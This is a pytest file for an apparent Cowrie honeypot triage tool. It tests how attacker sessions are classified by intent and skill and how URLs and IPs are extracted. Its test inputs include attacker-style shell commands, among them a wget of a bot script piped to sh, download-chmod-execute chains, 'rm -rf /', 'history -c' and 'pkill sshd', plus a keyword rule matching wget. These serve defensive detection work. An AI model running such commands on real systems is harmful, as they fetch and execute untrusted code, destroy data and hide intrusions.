"""Intent rules, skill heuristics, and artifact extraction."""

from __future__ import annotations

import itertools
import random

import pytest

from cowrie_triage.classify import (
    INTENT_SHALLOW_PROBE,
    INTENT_UNKNOWN,
    Artifact,
    ArtifactKind,
    SkillLabel,
    analyze_session,
    classify_intent,
    estimate_skill,
    extract_artifacts,
)
from cowrie_triage.matching import score_commands
from cowrie_triage.rules import RuleSet

from conftest import make_session, naive_scores


def verdict(commands, default_ruleset, gap: float = 0.1):
    session = make_session([(i * gap, text) for i, text in enumerate(commands)])
    scores = score_commands(commands, default_ruleset)
    return session, scores


class TestIntent:
    def test_single_wget_is_deployment_not_probe(self, default_ruleset):
        session, scores = verdict(["wget http://x/a.sh"], default_ruleset)
        assert classify_intent(session, scores, default_ruleset) == "MalwareDeployment"

    def test_two_commands_without_deployment_is_probe(self, default_ruleset):
        session, scores = verdict(["ls", "exit"], default_ruleset)
        assert classify_intent(session, scores, default_ruleset) == INTENT_SHALLOW_PROBE

    def test_tie_breaks_by_category_order(self, default_ruleset):
        commands = ["uname -a", "whoami", "crontab -l", "useradd x"]
        session, scores = verdict(commands, default_ruleset)
        assert scores.get("Reconnaissance") == 2
        assert scores.get("Persistence") == 2
        assert classify_intent(session, scores, default_ruleset) == "Reconnaissance"

    def test_zero_scores_many_commands_is_unknown(self, default_ruleset):
        session, scores = verdict(["echo a", "echo b", "echo c"], default_ruleset)
        assert classify_intent(session, scores, default_ruleset) == INTENT_UNKNOWN

    def test_argmax_category_wins(self, default_ruleset):
        commands = ["crontab -l", "useradd x", "adduser y", "uname -a"]
        session, scores = verdict(commands, default_ruleset)
        assert classify_intent(session, scores, default_ruleset) == "Persistence"

    def test_malware_label_comes_from_ruleset(self, tmp_path, default_ruleset):
        import json

        from cowrie_triage.rules import load_ruleset

        doc = {
            "version": "custom",
            "categories": [
                {
                    "name": "MalwareDeployment",
                    "intent_label": "PayloadDelivery",
                    "keywords": [{"pattern": "wget"}],
                }
            ],
        }
        path = tmp_path / "rules.json"
        path.write_text(json.dumps(doc), encoding="utf-8")
        custom = load_ruleset(path)
        session, scores = verdict(["wget http://x"], custom)
        assert classify_intent(session, scores, custom) == "PayloadDelivery"


def brute_force_intent(commands: list[str], ruleset: RuleSet) -> str:
    """Independent re-statement of the ordered decision table."""
    scores = naive_scores(commands, ruleset)
    by_name = {c.name: c for c in ruleset.categories}
    if "MalwareDeployment" in by_name and scores["MalwareDeployment"] >= 1:
        return by_name["MalwareDeployment"].intent_label
    if len(commands) <= 2:
        return INTENT_SHALLOW_PROBE
    if all(v == 0 for v in scores.values()):
        return INTENT_UNKNOWN
    best_score = max(scores.values())
    for category in ruleset.categories:
        if scores[category.name] == best_score:
            return category.intent_label
    raise AssertionError("unreachable")


def test_decision_table_equivalence_exhaustive(default_ruleset):
    alphabet = [
        "wget http://h/p",
        "curl -O h",
        "chmod +x f",
        "ls -la",
        "uname -a",
        "whoami",
        "crontab -l",
        "useradd m",
        "history -c",
        "pkill sshd",
        "rm -rf /tmp",
        "echo hi",
    ]
    assert len(alphabet) == 12
    for length in range(1, 5):
        for combo in itertools.product(alphabet, repeat=length):
            commands = list(combo)
            session, scores = verdict(commands, default_ruleset)
            assert classify_intent(session, scores, default_ruleset) == brute_force_intent(
                commands, default_ruleset
            )


class TestIntentInvariants:
    def test_probe_bound_and_malware_precedence(self, default_ruleset):
        rng = random.Random(41)
        pool = [
            "wget http://h/p", "ls", "echo x", "crontab -l", "rm -rf /", "date",
            "uname -a", "curl h", "free -m",
        ]
        for _ in range(300):
            commands = [rng.choice(pool) for _ in range(rng.randrange(1, 7))]
            session, scores = verdict(commands, default_ruleset)
            intent = classify_intent(session, scores, default_ruleset)
            if intent == INTENT_SHALLOW_PROBE:
                assert len(commands) <= 2
                assert scores.get("MalwareDeployment") == 0
            if scores.get("MalwareDeployment") >= 1:
                assert intent == "MalwareDeployment"

    def test_labels_stay_in_closed_set(self, default_ruleset):
        rng = random.Random(43)
        allowed = {INTENT_SHALLOW_PROBE, INTENT_UNKNOWN} | {
            c.intent_label for c in default_ruleset.categories
        }
        pool = ["wget x", "ls", "echo x", "pkill y", "mkfs", "ssh-rsa k", "id"]
        for _ in range(200):
            commands = [rng.choice(pool) for _ in range(rng.randrange(1, 6))]
            session, scores = verdict(commands, default_ruleset)
            assert classify_intent(session, scores, default_ruleset) in allowed


class TestSkill:
    def test_two_quiet_commands_low(self, default_ruleset):
        session, scores = verdict(["echo a", "echo b"], default_ruleset)
        skill = estimate_skill(session, scores)
        assert skill is SkillLabel.LOW
        assert skill.display == "Low (Script Kiddie)"

    def test_fast_burst_medium(self, default_ruleset):
        session, scores = verdict(["echo %d" % i for i in range(6)], default_ruleset)
        skill = estimate_skill(session, scores)
        assert skill is SkillLabel.MEDIUM
        assert skill.display == "Medium (Automated Script)"

    def test_five_slow_commands_high(self, default_ruleset):
        session, scores = verdict(
            ["echo %d" % i for i in range(5)], default_ruleset, gap=3.0
        )
        skill = estimate_skill(session, scores)
        assert skill is SkillLabel.HIGH
        assert skill.display == "High (Manual Operator)"

    def test_gap_boundary_is_inclusive_for_high(self, default_ruleset):
        session, scores = verdict(["echo %d" % i for i in range(5)], default_ruleset, gap=2.0)
        assert estimate_skill(session, scores) is SkillLabel.HIGH

    def test_defense_evasion_forces_high(self, default_ruleset):
        session, scores = verdict(["history -c"], default_ruleset)
        assert estimate_skill(session, scores) is SkillLabel.HIGH

    def test_download_plus_execute_medium_even_when_short(self, default_ruleset):
        session, scores = verdict(["wget http://x/f", "./f"], default_ruleset)
        assert estimate_skill(session, scores) is SkillLabel.MEDIUM

    def test_chmod_counts_as_execute(self, default_ruleset):
        session, scores = verdict(["curl http://x/f", "chmod +x f"], default_ruleset)
        assert estimate_skill(session, scores) is SkillLabel.MEDIUM

    def test_three_slow_commands_without_signals_low(self, default_ruleset):
        session, scores = verdict(["echo a", "echo b", "echo c"], default_ruleset, gap=5.0)
        assert estimate_skill(session, scores) is SkillLabel.LOW

    def test_four_slow_commands_not_high(self, default_ruleset):
        session, scores = verdict(["echo %d" % i for i in range(4)], default_ruleset, gap=3.0)
        assert estimate_skill(session, scores) is SkillLabel.LOW

    def test_median_robust_to_single_pause(self, default_ruleset):
        # Burst pacing with one long stall still reads as scripted.
        offsets = [0.0, 0.1, 0.2, 0.3, 60.0, 60.1]
        session = make_session([(t, f"echo {i}") for i, t in enumerate(offsets)])
        scores = score_commands([f"echo {i}" for i in range(6)], default_ruleset)
        assert estimate_skill(session, scores) is SkillLabel.MEDIUM


class TestArtifacts:
    def test_url_and_embedded_ip(self):
        artifacts = extract_artifacts(["wget http://198.51.100.9/bot.sh; sh bot.sh"])
        assert artifacts == [
            Artifact(ArtifactKind.URL, "http://198.51.100.9/bot.sh", 0),
            Artifact(ArtifactKind.IPV4, "198.51.100.9", 0),
        ]

    def test_out_of_range_octet_rejected(self):
        assert extract_artifacts(["echo 999.1.1.1"]) == []

    def test_empty_list(self):
        assert extract_artifacts([]) == []

    def test_longer_dotted_sequences_rejected(self):
        assert extract_artifacts(["echo 1.2.3.4.5"]) == []
        assert extract_artifacts(["echo 1.2.3.4.5.6"]) == []

    def test_boundary_octets(self):
        assert extract_artifacts(["ping 0.0.0.0 255.255.255.255"]) == [
            Artifact(ArtifactKind.IPV4, "0.0.0.0", 0),
            Artifact(ArtifactKind.IPV4, "255.255.255.255", 0),
        ]

    @pytest.mark.parametrize("terminator", [" ", '"', "'", "`", ";"])
    def test_url_terminators(self, terminator):
        artifacts = extract_artifacts([f"wget http://h/p{terminator}rest"])
        urls = [a.value for a in artifacts if a.kind is ArtifactKind.URL]
        assert urls == ["http://h/p"]

    @pytest.mark.parametrize("scheme", ["http", "https", "ftp", "tftp"])
    def test_schemes(self, scheme):
        artifacts = extract_artifacts([f"fetch {scheme}://h/p"])
        assert [a.value for a in artifacts] == [f"{scheme}://h/p"]

    def test_unknown_scheme_ignored(self):
        assert extract_artifacts(["fetch gopher://h/p"]) == []

    def test_duplicates_preserved_in_order(self):
        artifacts = extract_artifacts(["wget http://h/p", "wget http://h/p"])
        assert [a.source_command_index for a in artifacts] == [0, 1]
        assert [a.value for a in artifacts] == ["http://h/p", "http://h/p"]

    def test_left_to_right_within_command(self):
        artifacts = extract_artifacts(["ping 10.0.0.1 then wget http://h/p"])
        assert [a.kind for a in artifacts] == [ArtifactKind.IPV4, ArtifactKind.URL]


class TestAnalyzeSession:
    def test_probe_session(self, default_ruleset):
        session = make_session([(0.0, "uname -a")])
        analysis = analyze_session(session, default_ruleset)
        assert analysis.intent == INTENT_SHALLOW_PROBE
        assert analysis.skill is SkillLabel.LOW
        assert analysis.artifacts == ()
        assert analysis.command_count == 1

    def test_deploy_chain(self, default_ruleset):
        session = make_session(
            [(0.0, "wget http://x/a"), (0.2, "chmod +x a"), (0.4, "./a")]
        )
        analysis = analyze_session(session, default_ruleset)
        assert analysis.intent == "MalwareDeployment"
        assert analysis.skill is SkillLabel.MEDIUM
        assert [a.kind for a in analysis.artifacts] == [ArtifactKind.URL]

    def test_purity(self, default_ruleset):
        session = make_session([(0.0, "wget http://x/a"), (1.0, "ls")])
        assert analyze_session(session, default_ruleset) == analyze_session(
            session, default_ruleset
        )

    def test_command_free_session_is_a_caller_bug(self, default_ruleset):
        from cowrie_triage.events import EventKind
        from cowrie_triage.sessions import group_into_sessions

        from conftest import make_event

        events = [make_event(kind=EventKind.SESSION_CONNECT)]
        session = group_into_sessions(events)["a1b2c3d4"]
        with pytest.raises(ValueError):
            analyze_session(session, default_ruleset)

    def test_command_count_matches_commands_length(self, default_ruleset):
        rng = random.Random(47)
        for _ in range(50):
            n = rng.randrange(1, 8)
            session = make_session([(i * 0.5, f"echo {i}") for i in range(n)])
            assert analyze_session(session, default_ruleset).command_count == n
